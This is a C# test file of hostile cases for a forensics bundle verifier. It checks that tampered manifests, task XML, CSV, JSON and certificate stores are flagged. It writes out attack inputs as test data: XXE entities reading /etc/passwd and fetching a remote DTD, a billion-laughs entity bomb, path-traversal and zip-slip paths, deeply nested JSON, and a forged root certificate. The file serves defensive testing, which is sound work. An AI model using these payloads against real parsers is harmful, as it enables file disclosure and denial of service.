using System.Text;
using CsrssForensics.Bundle;
using CsrssForensics.Core.Snapshot;
using CsrssForensics.Tests.Shared;

namespace CsrssForensics.Cli.Tests.Hostile;

/// <summary>Hostile parts in an otherwise sealed bundle: manifest, task XML, CSV, JSON, certificate stores.</summary>
internal static partial class HostileCases
{
    private const string ProcessesHeader = "pid,parentPid,name,imagePath,commandLine,creationTimeUtc,sessionId,user,cpuPercent,gpuPercent,workingSetBytes\n";

    private static IEnumerable<HostileCase> PartCases()
    {
        // Manifest
        yield return Part("manifest-lists-missing-file", "manifest", b => File.Delete(Path.Combine(b, "autoruns.json")), Compromised, Expect.Integrity(IntegrityProblem.Missing, "autoruns.json"), seal: false);
        yield return Part("manifest-absent", "manifest", b => File.Delete(Path.Combine(b, "manifest.json")), Compromised, Expect.All(Expect.Status(IntegrityStatus.Unverified), Expect.Anomaly(BundleAnomalyCodes.ManifestMissing)), seal: false);
        yield return Part("manifest-not-json", "manifest", b => File.WriteAllText(Path.Combine(b, "manifest.json"), "{ \"format\": "), Compromised, Expect.Anomaly(BundleAnomalyCodes.ManifestMalformed), seal: false);
        yield return Part("manifest-deep-nesting", "deep JSON", b => File.WriteAllText(Path.Combine(b, "manifest.json"), Nested(100_000)), Compromised, Expect.Anomaly(BundleAnomalyCodes.ManifestMalformed), seal: false);
        yield return Part("manifest-other-format", "manifest", b => Replace(b, "manifest.json", "csrss-forensics-bundle", "other-bundle"), Compromised, Expect.Anomaly(BundleAnomalyCodes.ManifestUnknownFormat), seal: false);
        yield return Part("manifest-record-path-slip", "manifest", b => Replace(b, "manifest.json", "\"path\": \"autoruns.json\"", "\"path\": \"../outside/secret.txt\""), Compromised, Expect.Anomaly(BundleAnomalyCodes.ManifestBadRecord), seal: false);
        yield return Part("manifest-binary-tampered", "manifest", b => AppendBytes(Path.Combine(b, "binaries"), [0x90]), Compromised, Expect.Integrity(IntegrityProblem.Changed, "binaries/"), seal: false);
        yield return Part("manifest-extra-file", "manifest", b => File.WriteAllText(Path.Combine(b, "binaries", "planted.bin"), "MZ"), Compromised, Expect.Integrity(IntegrityProblem.Extra, "binaries/planted.bin"), seal: false);

        // Task XML
        yield return Task("task-xxe-external-entity", "XXE", "<?xml version=\"1.0\"?><!DOCTYPE Task [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Task>&x;</Task>");
        yield return Task("task-xxe-parameter-entity", "XXE", "<?xml version=\"1.0\"?><!DOCTYPE Task [<!ENTITY % p SYSTEM \"http://example.invalid/x.dtd\"> %p;]><Task/>");
        yield return Task("task-billion-laughs", "billion laughs", BillionLaughs());
        yield return Task("task-wrong-root", "task XML", "<?xml version=\"1.0\"?><NotATask/>");
        yield return Task("task-not-xml", "task XML", "\u0001\u0002 MZ this is not XML");
        yield return Task("task-truncated", "task XML", "<?xml version=\"1.0\"?><Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Actions><Exec><Command>C:\\x");

        // CSV
        yield return Part("csv-bad-quoting", "CSV", b => File.AppendAllText(Path.Combine(b, "processes.csv"), "7001,3120,\"note\"pad.exe,C:\\x.exe,,2026-11-20T07:04:00Z,1,CORP\\bob,0,0,1\n"), Compromised, Expect.Anomaly(BundleAnomalyCodes.CsvMalformedRow));
        yield return Part("csv-wrong-cell-count", "CSV", b => File.AppendAllText(Path.Combine(b, "processes.csv"), "7002,3120,notepad.exe\n"), Compromised, Expect.Anomaly(BundleAnomalyCodes.CsvMalformedRow));
        yield return Part("csv-empty-part", "CSV", b => File.WriteAllText(Path.Combine(b, "files.csv"), string.Empty), ExitCodes.Suspicious, Expect.Anomaly(BundleAnomalyCodes.CsvBadHeader));
        yield return Part("csv-header-missing-column", "CSV", b => File.WriteAllText(Path.Combine(b, "files.csv"), "size,sha256\n1,00\n"), ExitCodes.Suspicious, Expect.Anomaly(BundleAnomalyCodes.CsvBadHeader));
        yield return Part("csv-unparsable-pid", "CSV", b => File.AppendAllText(Path.Combine(b, "processes.csv"), "notanumber,3120,notepad.exe,C:\\x.exe,,2026-11-20T07:04:00Z,1,CORP\\bob,0,0,1\n"), Compromised, Expect.Anomaly(BundleAnomalyCodes.CsvRowSkipped));
        yield return Part("csv-bundle-path-slip", "zip-slip", b => Replace(b, "files.csv", "binaries/ec3cd82c", "../outside/ec3cd82c"), Compromised, Expect.Anomaly(BundleAnomalyCodes.CsvBadBundlePath));
        yield return Part("csv-nul-bytes", "CSV", b => File.AppendAllText(Path.Combine(b, "processes.csv"), "7003,3120,csrss.exe,C:\\Users\\bob\\nul\0\0\\csrss.exe,\0,2026-11-20T07:04:00Z,1,CORP\\bob,0,0,1\n"), Compromised, Expect.Subject("nul\0\0"));
        yield return Part(
            "csv-huge-field",
            "CSV",
            b => File.AppendAllText(Path.Combine(b, "processes.csv"), $"7004,3120,csrss.exe,C:\\Users\\bob\\huge\\csrss.exe,\"{new string('A', 4 * 1024 * 1024)}\",2026-11-20T07:04:00Z,1,CORP\\bob,0,0,1\n"),
            Compromised,
            Expect.Subject("\\huge\\csrss.exe"));

        // JSON
        yield return Part("json-deep-nesting-host", "deep JSON", b => File.WriteAllText(Path.Combine(b, "host.json"), Nested(100_000)), Compromised, Expect.Anomaly(BundleAnomalyCodes.JsonMalformed));
        yield return Part("json-deep-nesting-autoruns", "deep JSON", b => File.WriteAllText(Path.Combine(b, "autoruns.json"), "{\"entries\":" + Nested(50_000) + "}"), Compromised, Expect.Anomaly(BundleAnomalyCodes.JsonMalformed));
        yield return Part("json-malformed-autoruns", "JSON", b => File.WriteAllText(Path.Combine(b, "autoruns.json"), "{\"entries\": [ {\"kind\": "), Compromised, Expect.Anomaly(BundleAnomalyCodes.JsonMalformed));
        yield return Part("json-records-of-wrong-type", "JSON", b => File.WriteAllText(Path.Combine(b, "autoruns.json"), "{\"entries\": [ 42, \"x\", null ] }"), Compromised, Expect.Anomaly(BundleAnomalyCodes.JsonMalformed));
        yield return Part("json-nul-and-lone-surrogate", "JSON", b => File.WriteAllText(Path.Combine(b, "host.json"), "{\"hostname\": \"WS\\u0000\\ud800\", \"osVersion\": 7}"), Compromised, Expect.Anomaly(BundleAnomalyCodes.JsonMalformed));

        // Certificate stores
        yield return Part(
            "certstore-forged-microsoft-root",
            "forged root",
            b =>
            {
                Directory.CreateDirectory(Path.Combine(b, "certstores"));
                File.Copy(TestEnvironment.PathOf("fixtures", "bundles", "rogue-root-signed", "certstores", "LocalMachine-Root.pem"), Path.Combine(b, "certstores", "LocalMachine-Root.pem"));
            },
            Compromised,
            Expect.RogueRoot("Microsoft Root"));
    }

    /// <summary>A case on a copy of the base folder changed by <paramref name="change"/>, then resealed (unless told not to).</summary>
    private static HostileCase Part(string name, string kind, Action<string> change, int exit, Action<HostileOutcome> expect, bool seal = true, bool cli = false) =>
        new(name, kind, w =>
        {
            var bundle = w.BaseFolder();
            change(bundle);
            if (seal)
            {
                HostileWorkspace.Seal(bundle);
            }

            return bundle;
        }, exit, expect) { ThroughCli = cli };

    private static HostileCase Task(string name, string kind, string xml) =>
        Part(name, kind, b =>
        {
            Directory.CreateDirectory(Path.Combine(b, "tasks"));
            File.WriteAllText(Path.Combine(b, "tasks", "Evil"), xml);
        }, Compromised, Expect.Anomaly(BundleAnomalyCodes.TaskMalformed));

    private static string Nested(int depth) => new string('[', depth) + new string(']', depth);

    private static string BillionLaughs()
    {
        var xml = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE Task [<!ENTITY l0 \"lol\">");
        for (var level = 1; level <= 9; level++)
        {
            xml.Append($"<!ENTITY l{level} \"{string.Concat(Enumerable.Repeat($"&l{level - 1};", 10))}\">");
        }

        return xml.Append("]><Task>&l9;</Task>").ToString();
    }

    private static void Replace(string bundle, string part, string from, string to)
    {
        var path = Path.Combine(bundle, part);
        var text = File.ReadAllText(path);
        Assert.True(text.Contains(from, StringComparison.Ordinal), $"{part} does not hold '{from}'");
        File.WriteAllText(path, text.Replace(from, to, StringComparison.Ordinal));
    }

    private static void AppendBytes(string folder, byte[] bytes)
    {
        var file = Directory.GetFiles(folder).Order(StringComparer.Ordinal).First();
        using var stream = new FileStream(file, FileMode.Append);
        stream.Write(bytes);
    }
}
